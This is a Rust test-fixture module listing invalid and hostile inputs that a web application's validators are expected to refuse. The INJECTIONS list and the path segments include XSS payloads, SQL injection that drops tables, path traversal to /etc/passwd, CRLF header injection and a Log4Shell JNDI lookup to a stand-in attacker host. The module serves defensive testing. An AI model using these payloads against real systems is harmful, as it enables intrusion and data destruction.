//! The hostile values the other modules send. Each list says what kind of attack it stands for;
//! none of them is a valid value for the fields it is sent to (codes, ids, shares, ratings, query
//! parameters), so every one must be refused with a message.

/// Markup, SQL, path traversal, template and log injection, encoded variants and invisible
/// characters: text that must never reach a query, a file path or a page unescaped.
pub const INJECTIONS: &[&str] = &[
    "<script>alert('atlas')</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "'; DROP TABLE profiles; --",
    "1' OR '1'='1",
    "29-1224.00' OR 1=1 --",
    "29-1224.00; DELETE FROM occupations",
    "\" OR \"\"=\"",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "29-1224.00\0",
    "%00",
    "${jndi:ldap://attacker.invalid/a}",
    "{{7*7}}",
    "\u{202e}fdp.exe",
    "29-1224.00\r\nSet-Cookie: stolen=1",
    "29\u{2010}1224.00",
    "٢٩-١٢٢٤.٠٠",
];

/// Numbers that are not a share of working time (more than 0, at most 100), as a form sends
/// them: text.
pub const BAD_SHARES: &[&str] = &[
    "0",
    "-0",
    "-5",
    "-0.0001",
    "100.0001",
    "1e309",
    "-1e309",
    "99999999999999999999",
    "1e20",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "Infinity",
    "0x10",
    "1_000",
    "12.5.5",
    "25%%",
    "",
    "   ",
];

/// Ratings that are not a whole number from 1 to 5, as a form sends them.
pub const BAD_RATINGS: &[&str] = &[
    "0",
    "6",
    "-1",
    "3.5",
    "3.0",
    "1e0",
    "256",
    "18446744073709551616",
    "99999999999999999999",
    "NaN",
    "three",
    "",
];

/// JSON literals that are not a valid share; `Some(field)` when the answer names the share,
/// `None` when the body as a whole is refused (out-of-range or non-JSON literals).
pub const BAD_JSON_SHARES: &[(&str, bool)] = &[
    ("0", true),
    ("-0.0", true),
    ("-5", true),
    ("1e-400", true),
    ("100.0000001", true),
    ("99999999999999999999", true),
    ("1.7976931348623157e308", true),
    ("\"25\"", true),
    ("\"NaN\"", true),
    ("true", true),
    ("[25]", true),
    ("{\"percent\": 25}", true),
    ("1e309", false),
    ("-1e309", false),
    ("NaN", false),
    ("Infinity", false),
    ("0x19", false),
    ("25%", false),
    ("+25", false),
    ("025", false),
];

/// JSON literals that are not a valid rating (see `BAD_JSON_SHARES`).
pub const BAD_JSON_RATINGS: &[(&str, bool)] = &[
    ("0", true),
    ("6", true),
    ("-1", true),
    ("2.5", true),
    ("3.0", true),
    ("1e0", true),
    ("256", true),
    ("18446744073709551616", true),
    ("\"3\"", true),
    ("false", true),
    ("[3]", true),
    ("1e999", false),
    ("NaN", false),
    ("03", false),
];

/// Text fields and their limits in characters (README, "Custom task profiles").
pub const TEXT_LIMITS: &[(&str, usize)] = &[
    ("name", 120),
    ("description", 2_000),
    ("title", 200),
    ("notes", 1_000),
];

/// Characters no keyboard types, each of which every text field refuses. Line breaks and tabs
/// are not here: multi-line fields allow them (single-line ones are tested separately).
pub const CONTROL_CHARACTERS: &[char] = &['\0', '\u{7}', '\u{8}', '\u{1b}', '\u{7f}', '\u{85}'];

/// Occupation codes, profile ids and file names as they appear in a URL path: the injections,
/// percent-encoded, plus encodings that only exist in URLs.
pub fn path_segments() -> Vec<String> {
    let mut segments: Vec<String> = INJECTIONS
        .iter()
        .map(|text| encode_path_segment(text))
        .collect();
    segments.extend(
        [
            "..%2F..%2F..%2Fetc%2Fpasswd",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "%252e%252e%252fetc%252fpasswd",
            "..%c0%af..%c0%afetc%c0%afpasswd",
            "%00",
            "%0d%0aSet-Cookie:%20stolen=1",
            "29-1224.00%00.toml",
            "29-1224.00%3B%20DROP%20TABLE%20occupations",
            "%F0%9F%A9%BB",
            "29-1224.0",
            "29-1224.000",
            "99-9999.99",
            "-1",
            "0",
            "99999999999999999999",
        ]
        .map(str::to_owned),
    );
    segments.push("9".repeat(5_000));
    segments
}

/// Percent-encodes every byte of `text` except unreserved ASCII, so it stays one path segment.
pub fn encode_path_segment(text: &str) -> String {
    let mut encoded = String::with_capacity(text.len() * 3);
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'_' | b'~') {
            encoded.push(byte as char);
        } else {
            encoded.push_str(&format!("%{byte:02X}"));
        }
    }
    encoded
}
